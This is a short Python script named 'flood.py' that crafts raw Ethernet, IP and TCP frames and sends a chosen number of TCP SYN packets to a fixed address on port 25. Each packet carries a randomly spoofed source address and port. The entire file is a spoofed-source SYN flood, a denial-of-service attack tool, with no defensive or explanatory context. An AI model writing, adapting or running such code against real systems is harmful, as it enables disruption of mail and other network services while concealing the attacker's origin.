#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# SYNs from everywhere.
# Usage: flood.py N MAC
import random, socket, struct, sys
n, mac = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("a0", 0))
head = mac + bytes(5) + b"\2\x08\0" + struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0)
to = socket.inet_aton("198.51.100.72")
for i in range(n):
    r = random.getrandbits(80)
    source = bytes([11 + r % 190]) + (r >> 8 & 0xffffff).to_bytes(3, "big")
    tcp = struct.pack("!HHIIBBHHH", 1024 + (r >> 32) % 60000, 25, r >> 48 & 0xffffffff, 0, 0x50, 2, 1024, 0, 0)
    s.send(head + source + to + tcp)
